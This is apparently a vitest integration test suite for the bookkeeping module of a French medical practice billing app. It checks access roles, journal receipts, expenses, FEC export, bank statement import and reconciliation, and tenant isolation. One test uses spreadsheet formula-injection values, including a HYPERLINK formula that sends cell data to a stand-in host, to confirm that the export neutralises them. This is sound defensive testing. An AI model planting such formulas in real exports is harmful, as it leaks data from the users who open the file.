import { parseFec, parseFecFileName } from '@pivot/core/accounting';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callAs } from '../testing/call-as.ts';
import { anInsuredPatient, aPractice } from '../testing/practice-builder.ts';
import { createTestApp, type TestApp } from '../testing/test-app.ts';

let t: TestApp;
let practice: Awaited<ReturnType<typeof aPractice>>;
let desk: ReturnType<typeof callAs>;
let books: ReturnType<typeof callAs>;
const iban = 'FR76 3000 6000 0112 3456 7890 189';

beforeAll(async () => {
  t = await createTestApp();
  practice = await aPractice(t);
  desk = callAs(t.app, practice.secretary);
  books = callAs(t.app, practice.accountant);
  // Two cheques of one day on one slip, and a card payment.
  for (const [amount, method] of [
    [3000, { kind: 'cheque', bank: 'BNP', number: '1001', drawer: 'A' }],
    [3000, { kind: 'cheque', bank: 'LCL', number: '2002', drawer: 'B' }],
    [3000, { kind: 'card' }],
  ] as const) {
    const patientId = await anInsuredPatient(t.app, practice.secretary, { complementary: false });
    await desk.post('/api/billing/visits', {
      patientId,
      practitionerId: practice.gp,
      date: '2025-04-01',
      acts: [{ code: 'G' }],
    });
    const paid = await desk.post('/api/billing/payments', {
      date: '2025-04-01',
      amountCents: amount,
      method,
      payer: { kind: 'patient', id: patientId },
    });
    if (paid.statusCode !== 201) throw new Error(paid.body);
  }
  const cheques = (await desk.get('/api/billing/payments?method=cheque&undeposited=true')).json();
  const slip = await desk.post('/api/billing/deposit-slips', {
    bank: 'BNP',
    iban,
    date: '2025-04-02',
    paymentIds: cheques.map((c: { id: string }) => c.id),
  });
  if (slip.statusCode !== 201) throw new Error(slip.body);
});
afterAll(async () => t?.close());

describe('bookkeeping', () => {
  it('keeps accounting routes to accounting roles', async () => {
    expect((await desk.get('/api/accounting/journal?from=2025-01-01&to=2025-12-31')).statusCode).toBe(403);
    expect((await desk.post('/api/accounting/expenses', {})).statusCode).toBe(403);
    expect((await books.get('/api/accounting/journal?from=2025-01-01&to=2025-12-31')).statusCode).toBe(200);
  });

  it('turns every payment into a receipt on its payment date', async () => {
    const journal = (await books.get('/api/accounting/journal?from=2025-04-01&to=2025-04-30')).json();
    const receipts = journal.filter((e: { journal: string }) => e.journal === 'RE');
    expect(receipts).toHaveLength(3);
    expect(
      receipts.every(
        (e: { date: string; amountCents: number }) => e.date === '2025-04-01' && e.amountCents === 3000,
      ),
    ).toBe(true);
    expect(receipts[0].lines.map((l: { account: string }) => l.account).sort()).toEqual(['512', '706']);
  });

  it('enters an expense with its 2035 line and excludes the private share', async () => {
    const lines = (await books.get('/api/accounting/chart')).json().form2035Lines;
    const category = lines.find((l: { side: string }) => l.side === 'expense').key;
    const response = await books.post('/api/accounting/expenses', {
      date: '2025-04-03',
      label: 'Téléphone',
      pieceRef: 'F-2025-17',
      amountCents: 10_000,
      category,
      professionalShare: 8_000,
      paymentMethod: 'card',
    });
    expect(response.statusCode).toBe(201);
    expect(response.json().privateCents).toBe(2000);
    const bad = await books.post('/api/accounting/expenses', {
      date: '2025-04-03',
      label: 'X',
      pieceRef: 'X',
      amountCents: 100,
      category: 'receipts',
      paymentMethod: 'card',
    });
    expect(bad.statusCode).toBe(422);
    expect(bad.json().error.field).toBe('category');
    const totals = (await books.get('/api/accounting/totals?year=2025')).json();
    expect(totals).toMatchObject({
      receiptsCents: 9000,
      deductibleExpensesCents: 8000,
      privateExcludedCents: 2000,
      resultCents: 1000,
    });
  });

  it('exports the FEC under its legal name, and the core parser reads it back balanced', async () => {
    const response = await books.get(
      '/api/accounting/fec?siren=732829320&fiscalYearStart=2025-01-01&closingDate=2025-12-31',
    );
    expect(response.statusCode).toBe(200);
    const name = /filename="([^"]+)"/.exec(String(response.headers['content-disposition']))![1]!;
    expect(name).toBe('732829320FEC20251231.txt');
    expect(parseFecFileName(name)).toEqual({ siren: '732829320', closingDate: '2025-12-31' });
    const check = parseFec(response.body);
    expect(check.problems).toEqual([]);
    expect(check.records).toHaveLength(3 * 2 + 3);
    expect(check.totalDebitCents).toBe(check.totalCreditCents);
    const bad = await books.get(
      '/api/accounting/fec?siren=12&fiscalYearStart=2025-01-01&closingDate=2025-12-31',
    );
    expect(bad.statusCode).toBe(422);
    expect(bad.json().error.field).toBe('siren');
  });

  it('exports a FEC whose text fields a spreadsheet shows as text, never runs as a formula', async () => {
    const lines = (await books.get('/api/accounting/chart')).json().form2035Lines;
    const category = lines.find((l: { side: string }) => l.side === 'expense').key;
    const expense = await books.post('/api/accounting/expenses', {
      date: '2024-06-03',
      label: '=HYPERLINK("http://x.example/?d="&A1;"facture")',
      pieceRef: '+1+cmd',
      amountCents: 4_250,
      category,
      paymentMethod: 'transfer',
      supplier: '@SUM(A1:A9)',
    });
    expect(expense.statusCode, expense.body).toBe(201);
    const response = await books.get(
      '/api/accounting/fec?siren=732829320&fiscalYearStart=2024-01-01&closingDate=2024-12-31',
    );
    const check = parseFec(response.body);
    expect(check.problems).toEqual([]);
    expect(check.records[0]).toMatchObject({
      EcritureLib: `'=HYPERLINK("http://x.example/?d="&A1;"facture")`,
      PieceRef: "'+1+cmd",
      IdClient: "'@SUM(A1:A9)",
      Debit: '42,50',
    });
  });

  it('imports a bank statement once, proposes the deposit slip and card matches, and reconciles', async () => {
    const csv = [
      'Date;Libellé;Débit;Crédit',
      '03/04/2025;REMISE CHEQUES 0001;;60,00',
      '01/04/2025;CB CABINET;;30,00',
      '04/04/2025;PRLV OPERATEUR;100,00;',
    ].join('\n');
    const first = await books.post('/api/accounting/bank-imports', {
      format: 'csv',
      fileName: 'releve.csv',
      content: csv,
    });
    expect(first.statusCode).toBe(201);
    expect(first.json()).toMatchObject({ alreadyImported: false, transactions: 3 });
    const again = await books.post('/api/accounting/bank-imports', {
      format: 'csv',
      fileName: 'releve.csv',
      content: csv,
    });
    expect(again.json().alreadyImported).toBe(true);
    const open = (await books.get('/api/accounting/bank-transactions')).json();
    expect(open.transactions).toHaveLength(3);
    const slip = open.transactions.find((x: { amountCents: number }) => x.amountCents === 6000);
    expect(slip.proposal).toMatchObject({ kind: 'deposit_slip' });
    expect(slip.proposal.entryIds).toHaveLength(2);
    const debit = open.transactions.find((x: { amountCents: number }) => x.amountCents === -10000);
    expect(debit.proposal).toMatchObject({ kind: 'entry' });
    const wrong = await books.post(`/api/accounting/bank-transactions/${slip.id}/reconcile`, {
      entryIds: [slip.proposal.entryIds[0]],
    });
    expect(wrong.json().error.code).toBe('reconciliation_amount_mismatch');
    const done = await books.post(`/api/accounting/bank-transactions/${slip.id}/reconcile`, {
      entryIds: slip.proposal.entryIds,
    });
    expect(done.statusCode).toBe(200);
    const left = (await books.get('/api/accounting/bank-transactions')).json();
    expect(left.transactions).toHaveLength(2);
  });

  it('imports an OFX statement and proposes the card payment', async () => {
    const ofx = `<?xml version="1.0" encoding="UTF-8"?>
<?OFX OFXHEADER="200" VERSION="220"?>
<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><BANKTRANLIST>
<STMTTRN><TRNTYPE>CREDIT</TRNTYPE><DTPOSTED>20250402</DTPOSTED><TRNAMT>30.00</TRNAMT><FITID>OFX-1</FITID><NAME>CB REMISE</NAME></STMTTRN>
</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`;
    const imported = await books.post('/api/accounting/bank-imports', {
      format: 'ofx',
      fileName: 'releve.ofx',
      content: ofx,
    });
    expect(imported.statusCode).toBe(201);
    expect(imported.json().transactions).toBe(1);
    const open = (await books.get('/api/accounting/bank-transactions')).json();
    expect(open.transactions.find((x: { label: string }) => x.label === 'CB REMISE')).toBeTruthy();
    const broken = await books.post('/api/accounting/bank-imports', {
      format: 'ofx',
      fileName: 'x.ofx',
      content: 'pas un relevé',
    });
    expect(broken.statusCode).toBe(422);
    expect(broken.json().error.field).toBe('content');
  });

  it('keeps another organisation out', async () => {
    const other = await aPractice(t, 'Autre');
    const outsider = callAs(t.app, other.accountant);
    const journal = (await outsider.get('/api/accounting/journal?from=2025-01-01&to=2025-12-31')).json();
    expect(journal).toEqual([]);
    const open = (await books.get('/api/accounting/bank-transactions')).json();
    const reconcile = await outsider.post(
      `/api/accounting/bank-transactions/${open.transactions[0].id}/reconcile`,
      {
        entryIds: ['00000000-0000-4000-8000-000000000000'],
      },
    );
    expect(reconcile.statusCode).toBe(404);
  });
});
